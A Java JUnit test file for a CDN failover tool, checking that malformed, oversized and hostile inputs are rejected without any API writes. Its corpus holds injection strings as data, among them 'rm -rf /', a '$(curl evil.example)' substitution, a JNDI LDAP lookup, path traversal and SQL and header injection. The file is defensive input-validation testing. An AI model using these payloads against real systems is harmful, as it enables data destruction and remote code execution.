package io.cdnlifeline.reliability;

import io.cdnlifeline.event.BadInputException;
import io.cdnlifeline.handler.LifelineHandler;
import io.cdnlifeline.sandbox.SandboxCall;
import io.cdnlifeline.testing.SandboxCloud;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 8, bad input: every malformed, oversized, mistyped, unknown, oddly encoded or hostile input that reaches
 * a function's FC entry point is refused with a {@link BadInputException} whose message names what was expected,
 * the handler writes no report, and the sandbox sees no write at all (the account is never touched).
 */
class BadInputCorpusTest {
    private static SandboxCloud sc;

    @BeforeAll
    static void start() {
        sc = SandboxCloud.start(null);
    }

    @AfterAll
    static void stop() {
        sc.close();
    }

    private static String request(String domainsJsonArray) {
        return "{\"domains\": " + domainsJsonArray + "}";
    }

    private static String named(String domain) {
        return "{\"domains\": [" + new com.google.gson.JsonPrimitive(domain) + "]}";
    }

    private static String actionTrail(String type, String eventName, String params) {
        return "{\"id\":\"1\",\"source\":\"acs.cdn\",\"specversion\":\"1.0\",\"type\":\"" + type + "\",\"data\":{\"eventName\":\""
                + eventName + "\",\"eventType\":\"ApiCall\",\"serviceName\":\"Cdn\",\"requestParameters\":" + params + "}}";
    }

    private static String notification(String kind, String data) {
        return "{\"id\":\"1\",\"source\":\"billing\",\"specversion\":\"1.0\",\"type\":\"lifeline:Notification:" + kind + "\",\"data\":" + data + "}";
    }

    private static String cdnTrigger(String eventSource, String eventName, String domain) {
        return "{\"events\":[{\"eventName\":\"" + eventName + "\",\"eventVersion\":\"1.0.0\",\"eventSource\":\"" + eventSource
                + "\",\"region\":\"cn-hangzhou\",\"eventTime\":\"2026-11-21T16:15:03+08:00\",\"traceId\":\"t\","
                + "\"resource\":{\"domain\":\"" + domain + "\"},\"eventParameter\":{\"domain\":\"" + domain + "\",\"status\":\"offline\"}}]}";
    }

    private static String timer(String payloadJsonValue) {
        return "{\"triggerTime\":\"2026-11-22T06:05:00Z\",\"triggerName\":\"every-5-minutes\",\"payload\":" + payloadJsonValue + "}";
    }

    private static String repeat(String s, int n) {
        StringBuilder b = new StringBuilder(s.length() * n);
        for (int i = 0; i < n; i++) b.append(s);
        return b.toString();
    }

    private static String manyDomains(int n) {
        StringBuilder b = new StringBuilder("[");
        for (int i = 0; i < n; i++) b.append(i == 0 ? "" : ",").append("\"d").append(i).append(".example.com\"");
        return b.append(']').toString();
    }

    private static Arguments bad(String name, String function, String input, String expectedFragment) {
        return Arguments.of(name, function, input, expectedFragment);
    }

    /** name, function, input, a fragment the error message must contain (what was expected). */
    static Stream<Arguments> corpus() {
        List<Arguments> c = new ArrayList<>();
        // malformed JSON
        c.add(bad("unclosed object", "dns-to-origin", "{", "not valid JSON; expected a JSON object"));
        c.add(bad("trailing comma", "dns-to-origin", "{\"domains\": [\"www.example.com\"],}", "not valid JSON"));
        c.add(bad("single quotes", "dns-to-origin", "{'domains': ['www.example.com']}", "not valid JSON"));
        c.add(bad("comment after the object", "dns-to-cdn", "{\"domains\": []} // all of them", "expected one JSON object"));
        c.add(bad("NaN", "dns-to-origin", "{\"maxChanges\": NaN}", "not valid JSON"));
        c.add(bad("bare word", "switch-to-overseas", "offline", "not valid JSON"));
        c.add(bad("NUL bytes", "dns-to-origin", "\u0000\u0000{}", "not valid JSON"));
        c.add(bad("deep nesting", "dns-to-origin", repeat("[", 100_000) + repeat("]", 100_000), "nested too deeply to be a Request; expected a flat JSON object"));
        c.add(bad("the same field twice", "disable-domain", "{\"domains\": [\"www.example.com\"], \"dryRun\": true, \"dryRun\": false}", "twice in one object; expected each field once"));
        c.add(bad("two objects", "restore-coverage", "{}{}", "expected one JSON object"));
        c.add(bad("truncated unicode escape", "dns-to-origin", "{\"reason\": \"\\u12\"}", "not valid JSON"));
        // huge payloads
        c.add(bad("2 MB event", "dns-to-origin", "{\"reason\": \"" + repeat("x", 2 * 1024 * 1024) + "\"}", "larger than 1048576 bytes"));
        c.add(bad("300 KB reason", "dns-to-cdn", "{\"reason\": \"" + repeat("x", 300_000) + "\"}", "at most 1000"));
        c.add(bad("10001 domains", "dns-to-origin", request(manyDomains(10_001)), "at most 10000"));
        c.add(bad("300-character name", "dns-to-origin", named(repeat("a.", 150) + "com"), "is not a domain name; expected a domain name"));
        c.add(bad("64-character label", "switch-to-overseas", named(repeat("a", 64) + ".example.com"), "expected a domain name"));
        // wrong types
        c.add(bad("domains a string", "dns-to-origin", "{\"domains\": \"www.example.com\"}", "must be a JSON array of domain names"));
        c.add(bad("domain null", "dns-to-origin", request("[null]"), "must be a string (a domain name)"));
        c.add(bad("domain an object", "disable-domain", request("[{\"name\": \"www.example.com\"}]"), "must be a string (a domain name)"));
        c.add(bad("domain a number", "enable-domain", request("[42]"), "must be a string (a domain name)"));
        c.add(bad("when a string", "dns-to-origin", "{\"when\": \"offline\"}", "must be a JSON array of conditions"));
        c.add(bad("when a number", "dns-to-cdn", "{\"when\": [1]}", "must be a string (a condition)"));
        c.add(bad("products a string", "switch-to-overseas", "{\"products\": \"cdn\"}", "must be a JSON array of products such as [\"cdn\""));
        c.add(bad("dryRun a string", "disable-domain", "{\"domains\": [\"www.example.com\"], \"dryRun\": \"false\"}", "dryRun must be true or false"));
        c.add(bad("dryRun a number", "disable-domain", "{\"domains\": [\"www.example.com\"], \"dryRun\": 0}", "dryRun must be true or false"));
        c.add(bad("maxChanges a string", "dns-to-origin", "{\"maxChanges\": \"50\"}", "must be a whole number from 0 to 1000000"));
        c.add(bad("maxChanges huge", "dns-to-origin", "{\"maxChanges\": 1e12}", "must be a whole number from 0 to 1000000"));
        c.add(bad("maxChanges fraction", "dns-to-origin", "{\"maxChanges\": -0.5}", "must be a whole number from 0 to 1000000"));
        c.add(bad("input a boolean", "dns-to-origin", "true", "the input is the boolean true; expected a Request JSON"));
        c.add(bad("input a number", "dns-to-cdn", "42", "the input is the number 42; expected a Request JSON"));
        c.add(bad("input null", "enable-domain", "null", "the input is null; expected a Request JSON"));
        c.add(bad("empty batch", "dns-to-origin", "[]", "array of 0 elements; expected one event"));
        c.add(bad("batch of two", "dns-to-origin", "[{}, {}]", "array of 2 elements; expected one event"));
        c.add(bad("timer payload an object", "dns-to-origin", timer("{\"when\": [\"offline\"]}"), "payload must be a string holding the Request JSON"));
        c.add(bad("timer payload not JSON", "dns-to-cdn", timer("\"{when: offline}\""), "is not a valid Request"));
        c.add(bad("timer payload unknown field", "switch-to-overseas", timer("\"{\\\"domain\\\": \\\"www.example.com\\\"}\""), "unknown field 'domain'"));
        // unknown actions and values
        c.add(bad("unknown condition", "dns-to-origin", "{\"when\": [\"sometimes\"]}", "expected any of offline, in-debt, icp-invalid, online, remediated, always"));
        c.add(bad("unknown product", "dns-to-origin", "{\"products\": [\"oss\"]}", "expected any of cdn"));
        c.add(bad("unknown top-level field", "dns-to-origin", "{\"action\": \"dns-to-origin\", \"domains\": [\"www.example.com\"]}", "which no event cdn-lifeline reads has"));
        c.add(bad("field case differs", "dns-to-origin", "{\"Domains\": [\"www.example.com\"]}", "which no event cdn-lifeline reads has"));
        c.add(bad("ActionTrail unknown operation", "dns-to-origin",
                actionTrail("cdn:ActionTrail:ApiCall", "DeleteCdnDomain", "{\"DomainName\":\"www.example.com\"}"), "expected one of"));
        c.add(bad("ActionTrail type and operation disagree", "dns-to-origin",
                actionTrail("dcdn:ActionTrail:ApiCall", "StopCdnDomain", "{\"DomainName\":\"www.example.com\"}"), "does not match data.eventName"));
        c.add(bad("ActionTrail event for the wrong function", "switch-to-overseas",
                actionTrail("cdn:ActionTrail:ApiCall", "StopCdnDomain", "{\"DomainName\":\"www.example.com\"}"), "expected it to be routed to dns-to-origin or inspect"));
        c.add(bad("ActionTrail batch naming nothing", "dns-to-origin",
                actionTrail("cdn:ActionTrail:ApiCall", "BatchStopCdnDomain", "{\"DomainNames\":\" , \"}"), "names no domain; expected comma-separated domain names"));
        c.add(bad("ActionTrail path in DomainName", "dns-to-origin",
                actionTrail("cdn:ActionTrail:ApiCall", "StopCdnDomain", "{\"DomainName\":\"../../etc/passwd\"}"), "is not a domain name"));
        c.add(bad("CDN event of an unknown kind", "dns-to-origin", cdnTrigger("cdn", "CdnDomainDeleted", "www.example.com"), "expected CdnDomainStopped or CdnDomainStarted"));
        c.add(bad("CDN event from another service", "dns-to-origin", cdnTrigger("oss", "CdnDomainStopped", "www.example.com"), "expected cdn"));
        c.add(bad("CDN event without records", "dns-to-origin", "{\"events\": []}", "has 0 records; expected 1 to"));
        c.add(bad("CDN event for the wrong function", "restore-coverage", cdnTrigger("cdn", "CdnDomainStopped", "www.example.com"), "does not act on"));
        c.add(bad("notification for the wrong function", "disable-domain",
                notification("IcpInvalid", "{\"domains\":[\"www.example.com\"]}"), "expected it to be routed to switch-to-overseas or inspect"));
        // events of unknown type
        c.add(bad("CloudEvent of ECS", "dns-to-origin", "{\"specversion\":\"1.0\",\"type\":\"ecs:Instance:StateChange\",\"data\":{}}", "is not one cdn-lifeline reads; expected cdn:ActionTrail:*"));
        c.add(bad("CloudEvent near-miss type", "dns-to-origin", "{\"specversion\":\"1.0\",\"type\":\"cdn:ActionTrail:Unknown\",\"data\":{}}", "expected"));
        c.add(bad("unknown lifeline notification", "dns-to-origin", notification("AccountClosed", "{}"), "expected lifeline:Notification:OverduePayment"));
        c.add(bad("CloudEvent without type", "dns-to-origin", "{\"specversion\":\"1.0\",\"data\":{}}", "type must be a non-empty string"));
        c.add(bad("CloudEvent type a number", "dns-to-origin", "{\"specversion\":\"1.0\",\"type\":7}", "type must be a non-empty string"));
        c.add(bad("notification without domains", "switch-to-overseas", notification("IcpInvalid", "{\"reason\":\"x\"}"), "expected data.domains"));
        c.add(bad("notification smuggling a command", "dns-to-origin", notification("OverduePayment", "{\"domains\":[],\"when\":[\"always\"]}"), "unknown field 'when'; expected domains and reason"));
        // odd Unicode and punycode
        c.add(bad("space inside a name", "dns-to-origin", named("www.exa mple.com"), "is not a domain name"));
        c.add(bad("newline inside a name", "dns-to-origin", named("www.exam\nple.com"), "is not a domain name"));
        c.add(bad("NUL inside a name", "dns-to-origin", named("www.example.com\u0000.evil.com"), "is not a domain name"));
        c.add(bad("right-to-left override", "dns-to-origin", named("www.\u202Emoc.elpmaxe"), "is not a domain name"));
        c.add(bad("emoji label", "switch-to-overseas", named("\uD83D\uDCA9.example.com"), "is not a domain name"));
        c.add(bad("empty punycode label", "dns-to-origin", named("xn--.example.com"), "is not a domain name"));
        c.add(bad("lone surrogate", "dns-to-origin", named("\uD800.example.com"), "is not a domain name"));
        c.add(bad("empty label", "dns-to-origin", named("www..example.com"), "is not a domain name"));
        c.add(bad("top-level domain only", "dns-to-origin", named("com"), "no dot"));
        c.add(bad("wildcard of a TLD", "disable-domain", named("*.com"), "no dot"));
        c.add(bad("wildcard inside", "dns-to-origin", named("www.*.example.com"), "is not a domain name"));
        c.add(bad("double wildcard", "dns-to-origin", named("**.example.com"), "is not a domain name"));
        // paths and injection strings
        c.add(bad("parent directory", "dns-to-origin", named("../etc/passwd"), "is not a domain name"));
        c.add(bad("dot dot", "dns-to-origin", named(".."), "is not a domain name"));
        c.add(bad("encoded traversal", "dns-to-origin", named("%2e%2e%2f.example.com"), "is not a domain name"));
        c.add(bad("URL", "dns-to-origin", named("https://www.example.com/"), "is not a domain name"));
        c.add(bad("host and port", "dns-to-origin", named("www.example.com:8080"), "is not a domain name"));
        c.add(bad("SQL injection", "dns-to-origin", named("www.example.com' OR '1'='1"), "is not a domain name"));
        c.add(bad("shell injection", "disable-domain", named("www.example.com;rm -rf /"), "is not a domain name"));
        c.add(bad("command substitution", "dns-to-origin", named("$(curl evil.example).example.com"), "is not a domain name"));
        c.add(bad("JNDI lookup", "dns-to-origin", named("${jndi:ldap://evil.example/a}"), "is not a domain name"));
        c.add(bad("markup", "dns-to-origin", named("<script>alert(1)</script>.example.com"), "is not a domain name"));
        c.add(bad("API parameter smuggling", "dns-to-origin", named("www.example.com&Action=DeleteDomainRecord&RecordId=1"), "is not a domain name"));
        c.add(bad("header injection", "dns-to-origin", named("www.example.com\r\nX-Injected: 1"), "is not a domain name"));
        c.add(bad("condition injection", "dns-to-origin", "{\"when\": [\"offline\\\"],\\\"domains\\\":[\\\"*\"]}", "expected any of offline"));
        return c.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void refusedWithWhatWasExpectedAndNoWrite(String name, String function, String input, String expectedFragment) {
        // given a function's FC entry point on the sandbox
        sc.clearRequests();
        LifelineHandler handler = Handlers.of(function).with(sc.settings(), sc.cloud());
        FakeContext context = new FakeContext("bad-input-" + name, SandboxCloud.SANDBOX_KEYS.accessKeyId(),
                SandboxCloud.SANDBOX_KEYS.accessKeySecret(), null, 60_000);
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        // when the bad input arrives
        BadInputException e = assertThrows(BadInputException.class,
                () -> handler.handleRequest(new ByteArrayInputStream(input.getBytes(StandardCharsets.UTF_8)), out, context));

        // then the message says what was expected, nothing was reported, and the account was not touched
        assertTrue(e.getMessage().contains(expectedFragment), name + ": message does not name what was expected: " + e.getMessage());
        assertTrue(e.getMessage().length() < 600, name + ": the message echoes too much of the input: " + e.getMessage().length());
        assertEquals(0, out.size(), name + ": a report was written for bad input");
        List<SandboxCall> writes = Writes.of(sc.requests());
        assertEquals(List.of(), writes, name + ": API writes for bad input");
    }

    @Test
    void theCorpusHasAtLeastFiftyCases() {
        assertTrue(corpus().count() >= 50, "cases: " + corpus().count());
    }
}
